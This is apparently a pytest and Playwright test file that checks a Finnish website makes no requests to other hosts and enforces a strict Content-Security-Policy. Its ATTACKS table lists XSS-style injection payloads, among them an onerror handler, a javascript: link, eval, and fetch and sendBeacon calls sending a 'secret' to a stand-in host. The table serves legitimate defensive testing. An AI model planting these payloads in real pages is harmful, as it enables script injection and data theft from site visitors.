"""Privacy and safety: nothing leaves the site, and a strict policy stands behind the escaping."""

from __future__ import annotations

import base64
import hashlib
from collections.abc import Iterator
from pathlib import Path

import pytest
from browsers import settled, watch
from payloads import TRIPWIRE
from playwright.sync_api import Browser, Page
from reading import read_page
from servers import until
from walking import Walk

SHEET = "tyopohjat/hyotylause/"

# --- nothing leaves -------------------------------------------------------------------------------


@pytest.fixture
def watched(browser: Browser, address: str) -> Iterator[tuple[Page, list[str]]]:
    """A page whose requests to any other host are refused and counted."""
    context = browser.new_context(permissions=["clipboard-read", "clipboard-write"])
    foreign = watch(context, address)
    yield context.new_page(), foreign
    context.close()


def test_no_page_asks_anything_of_another_host(walked: Walk) -> None:
    assert walked.foreign == []
    assert walked.cookies == 0


def test_no_action_asks_anything_of_another_host(
    watched: tuple[Page, list[str]], address: str
) -> None:
    page, foreign = watched
    page.goto(address + SHEET)
    page.get_by_label("Arjen pulma").first.fill("Salainen")
    page.get_by_role("button", name="Tummat värit").click()
    page.get_by_role("button", name="Kopioi linkki").click()
    page.keyboard.press("Control+k")
    page.get_by_role("combobox", name="Mitä etsit?").fill("kokeilu")
    page.get_by_role("dialog", name="Haku").get_by_role("option").first.wait_for()
    for name in (
        "tyopohjat/?vaihe=haku&q=raha",
        "tyopohjat/valitse/?vaihe=haku",
        "haku/?q=kokeilu",
        "tyopaja/?t=01,02",
        "tietoa/tietosuoja/",
    ):
        page.goto(address + name)
        page.wait_for_load_state("networkidle")
    assert foreign == []


def test_the_watch_sees_a_foreign_request(browser: Browser, address: str) -> None:
    context = browser.new_context(bypass_csp=True)
    foreign = watch(context, address)
    page = context.new_page()
    page.goto(address)
    page.evaluate("fetch('http://127.0.0.2/x').catch(() => 0)")
    assert foreign == ["http://127.0.0.2/x"]
    context.close()


# --- the policy -----------------------------------------------------------------------------------


def test_every_page_carries_the_policy_before_anything_is_loaded(site: Path) -> None:
    for path in site.rglob("*.html"):
        page = read_page(path)
        first = page.head.find_all(["meta", "link", "script", "style"])
        equivalents = [tag.get("http-equiv") for tag in first]
        place = equivalents.index("Content-Security-Policy")
        assert [tag.name for tag in first[:place]] == ["meta"], path
        policy = first[place]["content"]
        assert "default-src 'none'" in policy
        assert "unsafe" not in policy
        assert page.select("[style], style, [onclick], [onload]") == [], path
        inner = page.select('script:not([src], [type="application/ld+json"])')
        kinds = [tag.get("type") for tag in inner]
        assert kinds in ([], ["speculationrules"]), path
        for tag in inner:
            digest = base64.b64encode(hashlib.sha256(tag.get_text().encode()).digest()).decode()
            assert f"script-src 'self' 'sha256-{digest}';" in policy, path


ADD = """
const add = (name, what, place = document.body) => {
  const element = Object.assign(document.createElement(name), what);
  place.append(element);
  return element;
};
"""
ATTACKS = {
    "script": "add('script', {textContent: 'hbTrip()'})",
    "foreign script": "add('script', {src: 'http://127.0.0.2/x.js'})",
    "handler": "document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=hbTrip()>')",
    "address": "add('a', {href: 'javascript:hbTrip()'}).click()",
    "eval": "try { (0, eval)('hbTrip()') } catch { }",
    "fetch": "fetch('http://127.0.0.2/x').catch(() => 0)",
    "beacon": "navigator.sendBeacon('http://127.0.0.2/x', 'salaisuus')",
    "picture": "new Image().src = 'http://127.0.0.2/x.png'",
    "frame": "add('iframe', {src: 'http://127.0.0.2/'})",
    "style": "add('style', {textContent: 'body { background: url(http://127.0.0.2/x.png) }'})",
    "base": "add('base', {href: 'http://127.0.0.2/'}, document.head)",
}


@pytest.mark.parametrize("name", ATTACKS)
def test_policy_stops_what_got_in(watched: tuple[Page, list[str]], address: str, name: str) -> None:
    page, foreign = watched
    page.add_init_script(
        f"{TRIPWIRE} globalThis.hbStopped = 0;"
        "addEventListener('securitypolicyviolation', () => { hbStopped += 1; });"
    )
    page.goto(address + SHEET)
    script = str(page.locator("script[defer]").first.get_attribute("src"))
    page.add_script_tag(url=address + script.removeprefix("../../"))
    page.evaluate(f"() => {{ {ADD} {ATTACKS[name]} }}")
    if name != "eval":
        # Asked from outside: a wait in the page is itself evaluated, which the policy may stop.
        until(lambda: page.evaluate("hbStopped") >= 1, "the policy's own word")
    settled(page)
    assert page.evaluate("hbTripped") == 0 or name == "eval"  # the browser's own tools may evaluate
    assert foreign == []
    assert page.evaluate("document.baseURI").startswith(address)
